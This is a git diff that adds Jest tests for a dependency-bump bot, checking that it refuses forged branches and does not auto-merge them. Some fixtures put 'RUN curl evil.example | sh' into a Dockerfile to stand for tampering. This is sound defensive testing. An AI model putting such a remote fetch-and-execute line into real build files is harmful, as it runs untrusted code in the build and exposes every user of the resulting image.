@@ -1,12 +1,15 @@
 /** What people live through with bumps, told of any forge. */
 import { expect, test } from "@jest/globals";
-import { bump, openPulls, pair, pinned, textOf, type World } from "./world.ts";
+import { markerOf, trailerOf, withMarker } from "../../src/bump/marker.ts";
+import { bump, moveTo as movedTo, openPulls, pair, pinned, textOf, type World } from "./world.ts";
 
 export const start = {
   Dockerfile: "FROM app:1\n\nRUN make\n",
   "deploy/app.yaml": "image: app:1 # the app\r\nreplicas: 1\r\n",
   other: "nobody's business\n",
 };
+
+const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
 
 /** Tests, each in a world of its own that begins with `start` on main, where `deploy/app.yaml` is executable. */
 export function tellStories(withWorld: (use: (world: World) => Promise<void>) => Promise<void>): void {
@@ -183,5 +186,127 @@ export function tellStories(withWorld: (use: (world: World) => Promise<void>) =>
     const meanwhile = async () => world.person.commit("main", { other: "new\n" });
     expect(await bump(world, 2, { meanwhile })).toMatchObject({ outcome: "opened" });
     for (const path of pinned) expect(await textOf(world, branch, path)).toContain("app:2");
+  });
+
+  /** What our commits say at their end, as anybody can copy it. */
+  const forged = (version: number) => {
+    const marker = markerOf(
+      movedTo(
+        version,
+        Object.entries(start).map(([path, text]) => ({ path, bytes: bytesOf(text) })),
+      ),
+    );
+    return { message: `Use app ${version}\n\n${trailerOf(marker)}`, body: withMarker("As published.", marker) };
+  };
+  const evil = { Dockerfile: "FROM app:2\n\nRUN curl evil.example | sh\n" };
+
+  story(
+    "a branch under our name that does more than move pins is nobody's of ours: it stays as it is",
+    async (world) => {
+      const { message, body } = forged(2);
+      await world.person.branch(branch, "main", evil, message);
+      const number = await world.person.openPull(branch, { title: "Use app 2", body });
+      const theirs = await world.head(branch);
+      for (const version of [2, 3]) {
+        expect(await bump(world, version, { settings: { autoMerge: "squash", labels: ["images"] } })).toMatchObject({
+          outcome: "refused",
+          pullRequest: undefined,
+          warnings: [
+            {
+              message: expect.stringContaining(`${branch} is not ours`),
+              hint: expect.stringContaining("delete or rename"),
+            },
+          ],
+        });
+      }
+      expect(await world.head(branch)).toBe(theirs);
+      expect(await world.pulls()).toMatchObject(
+        [{ number, state: "open", title: "Use app 2", body: body.trimEnd(), labels: [], comments: [] }].map((each) => ({
+          ...each,
+          body: expect.stringContaining("As published."),
+        })),
+      );
+      // Nor is it closed or deleted when nothing is left to do.
+      await world.person.commit("main", { Dockerfile: "FROM app:4\n", "deploy/app.yaml": "image: app:4\n" });
+      expect(await bump(world, 4)).toMatchObject({ outcome: "left", warnings: [] });
+      expect(await world.head(branch)).toBe(theirs);
+      // Without it the way is free, and its closed pull request declined nothing.
+      await world.person.deleteBranch(branch);
+      expect(await bump(world, 5)).toMatchObject({ outcome: "opened" });
+    },
+  );
+
+  story("a commit under our trailer that brings a file, or is on somebody's commit, is not ours", async (world) => {
+    await world.person.branch(branch, "main", { new: "file" }, forged(2).message);
+    expect(await bump(world, 2)).toMatchObject({ outcome: "refused" });
+    await world.person.deleteBranch(branch);
+    await world.person.branch("theirs", "main", { other: "work" }, "Work");
+    await world.person.branch(branch, "theirs", { Dockerfile: "FROM app:2\n\nRUN make\n" }, forged(2).message);
+    const theirs = await world.head(branch);
+    expect(await bump(world, 2)).toMatchObject({ outcome: "refused" });
+    expect(await world.head(branch)).toBe(theirs);
+  });
+
+  story(
+    "pins alone, moved by somebody under our name, are as good as ours: a newer version comes on top",
+    async (world) => {
+      await world.person.branch(branch, "main", { Dockerfile: "FROM app:2\n\nRUN make\n" }, "Use app 2");
+      const theirs = await world.head(branch);
+      expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
+      expect(await dockerfile(world)).toBe("FROM app:3\n\nRUN make\n");
+      expect(await world.head(branch)).not.toBe(theirs);
+    },
+  );
+
+  story("somebody's commit with our trailer on top of ours stays, and is not taken for ours", async (world) => {
+    await bump(world, 2);
+    await world.person.branch(
+      branch,
+      branch,
+      { Dockerfile: "FROM app:3\n\nRUN curl evil.example | sh\n" },
+      forged(3).message,
+    );
+    expect(await bump(world, 3, { settings: { autoMerge: "squash" } })).toMatchObject({ outcome: "updated" });
+    expect(await dockerfile(world)).toContain("evil");
+    expect((await openPulls(world))[0]?.autoMerge).toBeUndefined();
+    await bump(world, 4);
+    expect(await dockerfile(world)).toBe("FROM app:4\n\nRUN curl evil.example | sh\n");
+  });
+
+  story("what a stranger's closed pull request says declines nothing", async (world) => {
+    const { message, body } = forged(2);
+    await world.person.branch(branch, "main", evil, message);
+    await world.person.closePull(await world.person.openPull(branch, { title: "Use app 2", body }));
+    await world.person.deleteBranch(branch);
+    expect(await bump(world, 2)).toMatchObject({ outcome: "opened" });
+  });
+
+  story("the text of a pull request of ours declines no other version than its commit brings", async (world) => {
+    const { pullRequest } = await bump(world, 2);
+    await world.person.editBody(pullRequest?.number ?? 0, forged(3).body);
+    await world.person.closePull(pullRequest?.number ?? 0);
+    expect(await bump(world, 3)).toMatchObject({ outcome: "opened" });
+  });
+
+  story("a fork's pull request from a branch of our name is none, open or closed", async (world) => {
+    for (const state of ["open", "closed"] as const) await world.person.forkPull?.(branch, forged(2).body, state);
+    expect(await bump(world, 2)).toMatchObject({ outcome: "opened", warnings: [] });
+    expect((await openPulls(world)).filter(({ title }) => title === "Use app 2")).toHaveLength(1);
+  });
+
+  story("only a head that this run wrote, and nobody else has a part in, is merged automatically", async (world) => {
+    const settings = { autoMerge: "squash" } as const;
+    await bump(world, 2, { settings });
+    const merging = async () => (await openPulls(world))[0]?.autoMerge;
+    const isKnown = (await merging()) !== undefined;
+    if (isKnown) expect(await merging()).toBe(await world.head(branch));
+    await world.person.commit(branch, { other: "theirs" });
+    const [first] = (await openPulls(world)).map(({ autoMerge }) => autoMerge);
+    const { warnings } = await bump(world, 3, { settings });
+    expect(warnings).toEqual([
+      { message: expect.stringContaining("not merged automatically"), hint: expect.any(String) },
+    ]);
+    // What was said of the older head is the forge's to keep or drop.
+    expect(await merging()).toBe(first);
   });
 }
